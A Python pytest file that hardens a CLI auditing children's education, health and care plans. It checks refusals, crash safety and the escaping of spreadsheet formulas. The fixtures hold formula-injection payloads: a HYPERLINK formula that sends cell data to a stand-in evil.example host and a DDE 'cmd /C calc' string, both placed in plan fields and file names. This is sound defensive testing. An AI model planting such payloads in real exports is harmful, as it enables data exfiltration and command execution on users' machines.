"""Issue 16, outputs and the store: each attack performed through the CLI.

Races, kills and the sandboxed full disk and read-only store run the CLI in separate processes
(``ehcaudit``); the rest run it in this process (``here``, through ``cli_inprocess.run_cli``:
the same command, streams and exit code, an escaping exception fails the test as a traceback
would), which saves starting Python and the grammar engine for every command.

Formula injection into the trend's Excel and CSV files; a damaged store; impossible months;
two audits creating one store; runs that were killed; a killed ``trend``; a full disk; a
read-only store; per-plan HTML pages of plans sharing a reference or with a 400-character one;
a person's name given as the team. Each checks: one clear line where refused, no traceback,
every other plan scored and stored.
"""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from cli_inprocess import run_cli

from ehcaudit.reports.cells import TRIGGERS, is_risky, safe_cell, safe_frame
from ehcaudit.rubric.schema import default_rubric_path
from ehcaudit.teams import looks_like_name

ROOT = Path(__file__).resolve().parents[1]
PY = sys.executable

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
CALC = "=cmd|' /C calc'!A0"


def plan_text(ref: str, team: str, provision: str = "Sam may have access to support where possible.") -> str:
    return f"""Plan reference: {ref}
Year group: 4
Date issued: 2 February 2026
Team: {team}

# Section A: Views, interests and aspirations
Sam enjoys football. "I want to be a vet," Sam said.

# Section B: Special educational needs
Cognition and learning: Sam has dyslexia.

# Section E: Outcomes
By July 2027, Sam will read a short book aloud at home every evening.

# Section F: Special educational provision
{provision}

# Section I: Placement
Oakfield Primary School (mainstream)
"""


def ehcaudit(*args: str, env: dict | None = None, stdin: str | None = None, timeout: float = 600,
             wrap: list[str] | None = None) -> subprocess.CompletedProcess:
    """The CLI in a separate process (optionally under ``wrap``, e.g. an unshare sandbox)."""
    cmd = [PY, "-c", "from ehcaudit.cli import main; main()", *args]
    full_env = {**os.environ, "EHCAUDIT_TEST_TOOL_VERSION": "hardening-test", **(env or {})}
    return subprocess.run([*(wrap or []), *cmd], capture_output=True, text=True, env=full_env,
                          input=stdin if stdin is not None else "", timeout=timeout)


def here(*args: str, env: dict | None = None, stdin: str | None = None) -> subprocess.CompletedProcess:
    """The CLI in this process, with the tool version ``ehcaudit`` pins."""
    return run_cli(*args, env={"EHCAUDIT_TEST_TOOL_VERSION": "hardening-test", **(env or {})}, input=stdin)


def one_line(proc: subprocess.CompletedProcess, *words: str) -> str:
    """The single `error:` line of a refused command (no traceback), containing ``words``."""
    assert "Traceback" not in proc.stderr + proc.stdout, proc.stderr
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith("error: "), lines[0]
    for w in words:
        assert w in lines[0], lines[0]
    return lines[0]


@pytest.fixture(scope="module")
def rubric(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("rubric") / "rubric.yaml"
    shutil.copy(default_rubric_path(), path)
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """Plans whose reference, team, file name and quoted text are spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "=1+1.md").write_text(plan_text(HYPERLINK, CALC, f"{CALC} support may be offered where possible."),
                                    encoding="utf-8")
    (folder / "+SUM(A1).md").write_text(plan_text("+SUM(A1)-REF", "-2+3+cmd|' /C calc'!A0",
                                                  "@SUM(1+1) access to support as required."),
                                        encoding="utf-8")
    (folder / "@calc.md").write_text(plan_text("\tTAB-1", "@North", "\r-1 hours of support as required."),
                                     encoding="utf-8")
    (folder / "ordinary.md").write_text(plan_text("ORD-1", "North"), encoding="utf-8")
    (folder / '=HYPERLINK("x").docx').write_text("not a Word file")  # an error row
    return folder


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, hostile, rubric) -> Path:
    db = tmp_path_factory.mktemp("store") / "s.db"
    r = here("audit", str(hostile), "--month", "2026-03", "--store", str(db), "--rubric", str(rubric),
                 "--jobs", "1", "--json")
    assert r.returncode == 1, r.stderr  # the .docx is not a Word file; the rest are scored
    one_line(r, "HYPERLINK")
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT COUNT(*) FROM plans").fetchone()[0] == 4
    return db


# -- formula injection ---------------------------------------------------------------------------

def test_safe_cell_follows_owasp_and_keeps_numbers():
    for t in TRIGGERS:
        assert safe_cell(t + "x") == "'" + t + "x"
    assert safe_cell(" =1+1") == "' =1+1" and safe_cell("\n@x") == "'\n@x"
    assert safe_cell("North") == "North" and safe_cell("") == ""
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    import pandas as pd

    df = safe_frame(pd.DataFrame({"score": [-1.5, 2.0], "team": ["=A1", "North"], "=h": [1, 2]}))
    assert df["score"].tolist() == [-1.5, 2.0] and df["team"].tolist() == ["'=A1", "North"]
    assert list(df.columns) == ["score", "team", "'=h"]


@pytest.mark.slow  # audits plans through the CLI (in this process)
def test_trend_writes_no_formula_in_any_xlsx_cell_or_csv_field(hostile_store, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "out"
    r = here("trend", "--store", str(hostile_store), "--out", str(out))
    assert r.returncode == 0, r.stderr
    wb = load_workbook(out / "trend-2026-03.xlsx")
    texts = []
    numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_risky(cell.value), (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
                elif isinstance(cell.value, int | float):
                    numbers += 1
    # the hostile values are there, as text
    assert "'" + HYPERLINK in texts and "'" + CALC in texts and "'=1+1.md" in texts
    assert any(t.startswith("'" + CALC + " support") for t in texts)  # a quote
    assert any(t.startswith("'=HYPERLINK(\"x\")") for t in texts)  # the Errors sheet
    # numbers stay numbers: every score in the Plans sheet
    plans = wb["Plans"]
    header = [c.value for c in plans[1]]
    scores = [row[header.index("Score")].value for row in plans.iter_rows(min_row=2)]
    assert len(scores) == 4 and all(isinstance(s, float | int) for s in scores) and numbers > 20
    csvs = sorted(out.glob("trend-2026-03-*.csv"))
    assert len(csvs) == 9  # summary ... errors, and agreement (the audit group's, issue 17)
    fields = 0
    for path in csvs:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for value in row:
                    fields += 1
                    assert not value.startswith(TRIGGERS) and not is_risky(value), (path.name, value)
    assert fields > 100
    with open(out / "trend-2026-03-plans.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["plan_id"] for r in rows} >= {"'" + HYPERLINK, "'+SUM(A1)-REF", "ORD-1"}
    assert all(float(r["score"]) >= 0 for r in rows)  # plain numbers, no quote


# -- a damaged store ----------------------------------------------------------------------------

def test_a_damaged_store_is_not_written_to(hostile_store, hostile, rubric, tmp_path):
    db = tmp_path / "damaged.db"
    shutil.copy(hostile_store, db)
    with open(db, "r+b") as f:  # garbage over two pages in the middle of the file
        f.seek(4096 * 3)
        f.write(os.urandom(8192))
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    r = here("audit", str(hostile), "--month", "2026-04", "--store", str(db), "--rubric", str(rubric),
                 "--jobs", "1")
    assert r.returncode == 2
    one_line(r, str(db), "damaged", "nothing was written")
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before
    assert not Path(str(db) + "-wal").exists() or Path(str(db) + "-wal").stat().st_size == 0
    c = here("store", "check", "--store", str(db))
    assert c.returncode == 1 and "problem: damaged" in c.stdout and "Traceback" not in c.stderr


# -- months ------------------------------------------------------------------------------------

@pytest.mark.parametrize(("args", "words"), [
    (["--month", "9999-12"], ["9999-12", "future"]),
    (["--month", "1999-12"], ["1999-12", "before 2000-01"]),
    (["--month", "2026-05", "--as-of", "2026-04-30"], ["2026-05", "after the as-of date"]),
])
def test_months_out_of_range_are_refused_and_nothing_is_stored(tmp_path, hostile, rubric, args, words):
    db = tmp_path / "s.db"
    r = here("audit", str(hostile), *args, "--store", str(db), "--rubric", str(rubric))
    assert r.returncode == 2
    one_line(r, "--month", *words)
    assert not db.exists()


@pytest.mark.slow  # audits plans through the CLI (in this process)
def test_a_stray_month_is_found_reported_and_deleted(hostile_store, tmp_path):
    db = tmp_path / "s.db"
    shutil.copy(hostile_store, db)
    with sqlite3.connect(db) as conn:  # as an older ehcaudit let `--month 9999-12` through
        conn.execute("UPDATE plans SET month='9999-12' WHERE plan_id='ORD-1'")
        conn.execute("INSERT INTO runs (started, month, as_of, rubric_id, rubric_version, rubric_digest,"
                     " tool_version, status) SELECT started, '9999-12', '9999-12-31', rubric_id,"
                     " rubric_version, rubric_digest, tool_version, status FROM runs")
    out = tmp_path / "out"
    r = here("trend", "--store", str(db), "--out", str(out))
    assert r.returncode == 1
    one_line(r, "months", "more than 120", "store delete-month")
    c = here("store", "check", "--store", str(db))
    assert c.returncode == 1 and "problem: month 9999-12 is outside" in c.stdout
    no = here("store", "delete-month", "9999-12", "--store", str(db), stdin="n\n")
    assert no.returncode == 1 and "not removed" in no.stderr and "Traceback" not in no.stderr
    eof = here("store", "delete-month", "9999-12", "--store", str(db))  # no answer at all
    assert eof.returncode == 1 and "not removed" in eof.stderr
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT COUNT(*) FROM plans WHERE month='9999-12'").fetchone()[0] == 1
    yes = here("store", "delete-month", "9999-12", "--store", str(db), stdin="y\n")
    assert yes.returncode == 0, yes.stderr
    assert "removed 9999-12" in yes.stdout and "1 plan(s), 1 run(s)" in yes.stdout
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT COUNT(*) FROM plans WHERE month='9999-12'").fetchone()[0] == 0
        assert conn.execute("SELECT COUNT(*) FROM plans WHERE month='2026-03'").fetchone()[0] == 3
        assert conn.execute("SELECT COUNT(*) FROM findings f JOIN plans p ON p.id=f.plan_row").fetchone()[0] \
            == conn.execute("SELECT COUNT(*) FROM findings").fetchone()[0]  # cascade: no orphans
    assert here("store", "check", "--store", str(db)).returncode == 0
    r = here("trend", "--store", str(db), "--out", str(out))
    assert r.returncode == 0, r.stderr
    again = here("store", "delete-month", "9999-12", "--store", str(db), "--yes")
    assert again.returncode == 1
    one_line(again, "nothing stored for 9999-12")
    bad = here("store", "delete-month", "March", "--store", str(db), "--yes")
    assert bad.returncode == 2
    one_line(bad, "YYYY-MM")


# -- two audits creating one store ------------------------------------------------------------------

@pytest.mark.slow  # audits plans through the CLI, in processes
def test_two_audits_creating_a_new_store_at_once_both_succeed(tmp_path, hostile, rubric):
    empty = tmp_path / "empty"
    empty.mkdir()
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    shutil.copy(hostile / "ordinary.md", a / "a.md")
    (b / "b.md").write_text(plan_text("B-1", "South"), encoding="utf-8")
    env = {**os.environ, "EHCAUDIT_TEST_TOOL_VERSION": "hardening-test"}

    def start(folder: Path, month: str, db: Path) -> subprocess.Popen:
        return subprocess.Popen([PY, "-c", "from ehcaudit.cli import main; main()", "audit", str(folder),
                                 "--month", month, "--store", str(db), "--rubric", str(rubric), "--jobs", "1",
                                 "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)

    # fresh stores, two audits racing on each (empty folders: they reach the store together);
    # two rounds, not four: the race itself is run tighter, fifteen times over, in the test below
    for i in range(2):
        db = tmp_path / f"race{i}.db"
        procs = [start(empty, "2026-03", db), start(empty, "2026-04", db)]
        for p in procs:
            _, err = p.communicate(timeout=300)
            assert p.returncode == 0 and "Traceback" not in err, err
    # and two that score plans: both months stored in full
    db = tmp_path / "race.db"
    procs = [start(a, "2026-03", db), start(b, "2026-04", db)]
    for p in procs:
        _, err = p.communicate(timeout=600)
        assert p.returncode == 0, err
    with sqlite3.connect(db) as conn:
        assert sorted(conn.execute("SELECT month, plan_id FROM plans").fetchall()) == \
            [("2026-03", "ORD-1"), ("2026-04", "B-1")]
        assert {r[0] for r in conn.execute("SELECT status FROM runs")} == {"complete"}


@pytest.mark.slow  # opens one store from many processes
def test_a_fresh_store_opened_by_many_processes_at_once(tmp_path):
    """The same race, tighter: processes released at one instant open a new store."""
    # each imports the store, says it is ready and is then given the instant, 0.25 s ahead, once
    # all three are ready (a fixed instant 1.5 s after the start left each round idle about 1.3 s
    # on a quiet machine, and on a busy one could pass before a process had started); each sleeps
    # until 20 ms before the instant, then spins to it (a spin all the way burned up to 1.5 s of
    # processor time in each of the 15 processes)
    code = ("import sys, time\nfrom ehcaudit.store import Store\nprint('ready', flush=True)\n"
            "t = float(sys.stdin.readline())\n"
            "time.sleep(max(0.0, t - time.time() - 0.02))\n"
            "while time.time() < t: pass\nStore(sys.argv[1]).close()\n")
    for i in range(5):
        db = tmp_path / f"s{i}.db"
        procs = [subprocess.Popen([PY, "-c", code, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True)
                 for _ in range(3)]
        for p in procs:
            assert p.stdout is not None and p.stdout.readline() == "ready\n", p.communicate(timeout=60)[1]
        at = f"{time.time() + 0.25}\n"
        for p in procs:
            assert p.stdin is not None
            p.stdin.write(at)
            p.stdin.flush()
        for p in procs:
            _, err = p.communicate(timeout=60)
            assert p.returncode == 0, err
        assert db.exists()


# -- killed runs --------------------------------------------------------------------------------

@pytest.mark.slow  # audits plans through the CLI, in processes
def test_a_killed_run_is_marked_interrupted_when_the_next_run_starts(tmp_path, hostile, rubric):
    db = tmp_path / "s.db"
    killed = ehcaudit("audit", str(hostile), "--month", "2026-03", "--store", str(db), "--rubric", str(rubric),
                      "--jobs", "1", env={"EHCAUDIT_TEST_KILL_AFTER": "1"})
    assert killed.returncode == -signal.SIGKILL
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT status FROM runs").fetchall() == [("running",)]
    # the kill needs a process of its own; what follows it does not
    check = here("store", "check", "--store", str(db))
    assert check.returncode == 1 and "run(s) 1 were killed" in check.stdout
    nxt = here("audit", str(hostile), "--month", "2026-03", "--store", str(db), "--rubric", str(rubric),
                   "--jobs", "1")
    assert nxt.returncode == 1  # the .docx that is not one; every other plan scored
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT id, status FROM runs ORDER BY id").fetchall() == \
            [(1, "interrupted"), (2, "complete")]
        assert conn.execute("SELECT COUNT(*) FROM plans").fetchone()[0] == 4


# -- a killed trend -------------------------------------------------------------------------------

def _report_ok(out: Path) -> None:
    from openpyxl import load_workbook

    html = (out / "trend-2026-03.html").read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and html.rstrip().endswith("</html>")
    assert load_workbook(out / "trend-2026-03.xlsx").sheetnames[0] == "Summary"
    for path in out.glob("trend-2026-03-*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            assert next(csv.reader(f))  # a header row


@pytest.mark.slow  # audits plans through the CLI, in processes
def test_a_killed_trend_leaves_every_report_whole(hostile_store, tmp_path):
    out = tmp_path / "out"
    assert here("trend", "--store", str(hostile_store), "--out", str(out)).returncode == 0
    old_xlsx = (out / "trend-2026-03.xlsx").read_bytes()
    caught = 0
    for _ in range(30):  # kill it while a report is being written (a .part file exists)
        p = subprocess.Popen([PY, "-c", "from ehcaudit.cli import main; main()", "trend", "--store",
                              str(hostile_store), "--out", str(out)],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while p.poll() is None:
            if any(n.endswith(".part") for n in os.listdir(out)):
                p.kill()
                caught += 1
                break
            time.sleep(0.001)
        p.wait()
        _report_ok(out)  # either the old reports or the new ones, never half of one
        if caught >= 3:
            break
    assert caught >= 1
    assert (out / "trend-2026-03.xlsx").read_bytes()[:4] == old_xlsx[:4] == b"PK\x03\x04"
    # the next run removes what the killed ones left
    assert here("trend", "--store", str(hostile_store), "--out", str(out)).returncode == 0
    assert not [n for n in os.listdir(out) if n.endswith(".part")]


# -- a full disk and a read-only store (in a private mount namespace) --------------------------------

def _sandbox_available() -> bool:
    if not shutil.which("unshare"):
        return False
    r = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t tmpfs -o size=64k tmpfs /mnt"],
                       capture_output=True, timeout=30)
    return r.returncode == 0


needs_sandbox = pytest.mark.skipif(not _sandbox_available(),
                                   reason="unprivileged mount namespaces (unshare -Urm) not available")


def _in_sandbox(mount: str, *args: str) -> subprocess.CompletedProcess:
    """Run the CLI after ``mount`` (shell commands) in a new user and mount namespace."""
    quoted = " ".join("'" + a.replace("'", "'\\''") + "'" for a in
                      [PY, "-c", "from ehcaudit.cli import main; main()", *args])
    return subprocess.run(["unshare", "-Urm", "sh", "-c", f"{mount} && exec {quoted}"],
                          capture_output=True, text=True, timeout=600,
                          env={**os.environ, "EHCAUDIT_TEST_TOOL_VERSION": "hardening-test"})


@pytest.mark.slow  # audits plans through the CLI, in processes
@needs_sandbox
def test_a_full_disk_is_one_line_with_its_cause(tmp_path, hostile, hostile_store, rubric):
    full = tmp_path / "full"
    full.mkdir()
    mount = f"mount -t tmpfs -o size=160k tmpfs '{full}'"
    r = _in_sandbox(mount, "audit", str(hostile), "--month", "2026-03", "--store", str(full / "s.db"),
                    "--rubric", str(rubric), "--jobs", "1")
    assert r.returncode == 2
    one_line(r, "disk is full")
    # trend: reports to a full disk; earlier reports there are kept whole
    mount = (f"mount -t tmpfs -o size=120k tmpfs '{full}' && mkdir '{full}/out' && "
             f"printf old > '{full}/out/trend-2026-03.html'")
    r = _in_sandbox(mount + f" && head -c 100000 /dev/zero > '{full}/filler'", "trend", "--store",
                    str(hostile_store), "--out", str(full / "out"))
    assert r.returncode == 1
    one_line(r, "disk is full")


@pytest.mark.slow  # audits plans through the CLI, in processes
@needs_sandbox
def test_a_read_only_store_can_be_reported_on_but_not_audited_into(tmp_path, hostile_store, hostile, rubric):
    ro = tmp_path / "ro"
    ro.mkdir()
    shutil.copy(hostile_store, ro / "s.db")
    mount = f"mount --bind '{ro}' '{ro}' && mount -o remount,ro,bind '{ro}'"
    out = tmp_path / "out"
    r = _in_sandbox(mount, "trend", "--store", str(ro / "s.db"), "--out", str(out))
    assert r.returncode == 0, r.stderr
    _report_ok(out)
    r = _in_sandbox(mount, "audit", str(hostile), "--month", "2026-04", "--store", str(ro / "s.db"),
                    "--rubric", str(rubric), "--jobs", "1")
    assert r.returncode == 2
    one_line(r, "read-only", "nothing was written")
    r = _in_sandbox(mount, "store", "check", "--store", str(ro / "s.db"))
    assert r.returncode == 0 and "ok: no problem found" in r.stdout, r.stdout + r.stderr


# -- per-plan HTML pages ----------------------------------------------------------------------------

@pytest.mark.slow  # audits plans through the CLI (in this process)
def test_html_pages_of_plans_sharing_a_reference_never_overwrite_each_other(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    (a / "plan.md").write_text(plan_text("SAME-1", "North", "Sam has 30 minutes of speech therapy a week."),
                               encoding="utf-8")
    (b / "plan.md").write_text(plan_text("SAME-1", "South"), encoding="utf-8")
    (a / "long.md").write_text(plan_text("R" * 400, "North"), encoding="utf-8")
    out = tmp_path / "html"
    r = here("score", "--format", "html", str(a), str(b), "--out", str(out), "--as-of", "2026-03-01")
    assert r.returncode == 0, r.stderr
    pages = sorted(p.name for p in out.glob("*.html"))
    assert len(pages) == 3 and "SAME-1.html" in pages, pages
    assert all(len(p) <= 105 for p in pages)
    texts = {p: (out / p).read_text(encoding="utf-8") for p in pages}
    assert sum("speech therapy" in t for t in texts.values()) == 1  # plan a's page is its own
    # scoring again updates each plan's own page: still three
    r = here("score", "--format", "html", str(b), str(a), "--out", str(out), "--as-of", "2026-03-01")
    assert r.returncode == 0, r.stderr
    assert sorted(p.name for p in out.glob("*.html")) == pages
    assert {p: (out / p).read_text(encoding="utf-8") for p in pages}.keys() == texts.keys()
    for p in pages:
        assert ("speech therapy" in (out / p).read_text(encoding="utf-8")) == ("speech therapy" in texts[p])


# -- team names ------------------------------------------------------------------------------------

def test_looks_like_name():
    for name in ("Jo Bloggs", "Sarah Jones", "Mrs Smith", "Dr A Patel", "J. R. Smith", "Sarah",
                 "Mary-Jane O'Neil"):
        assert looks_like_name(name), name
    for team in ("North", "West", "North East", "Early Years", "Team 3", "CW12", "Preston Central",
                 "Kent", "Chelsea", "SEND Team North", "Preparing for Adulthood", "0-25 Team",
                 "Camden Locality", "Oakfield"):
        assert not looks_like_name(team), team


@pytest.mark.slow  # audits plans through the CLI (in this process)
def test_a_name_given_as_the_team_reaches_neither_store_nor_report(tmp_path, rubric):
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "a.md").write_text(plan_text("T-1", "Jo Bloggs"), encoding="utf-8")
    (folder / "b.md").write_text(plan_text("T-2", "North"), encoding="utf-8")
    db = tmp_path / "s.db"
    r = here("audit", str(folder), "--month", "2026-03", "--store", str(db), "--rubric", str(rubric),
                 "--jobs", "1")
    assert r.returncode == 0, r.stderr
    with sqlite3.connect(db) as conn:
        assert sorted(conn.execute("SELECT plan_id, team FROM plans").fetchall()) == \
            [("T-1", None), ("T-2", "North")]
        # a store written before this check: the name is in it
        conn.execute("UPDATE plans SET team='Sarah Jones' WHERE plan_id='T-1'")
    out = tmp_path / "out"
    r = here("trend", "--store", str(db), "--out", str(out))
    assert r.returncode == 0, r.stderr
    for path in out.iterdir():
        data = path.read_bytes()
        if path.suffix == ".xlsx":
            from openpyxl import load_workbook

            wb = load_workbook(path)
            data = " ".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row).encode()
        assert b"Sarah Jones" not in data and b"Bloggs" not in data, path.name
    with open(out / "trend-2026-03-plans.csv", newline="", encoding="utf-8") as f:
        assert sorted((r["plan_id"], r["team"]) for r in csv.DictReader(f)) == [("T-1", ""), ("T-2", "North")]
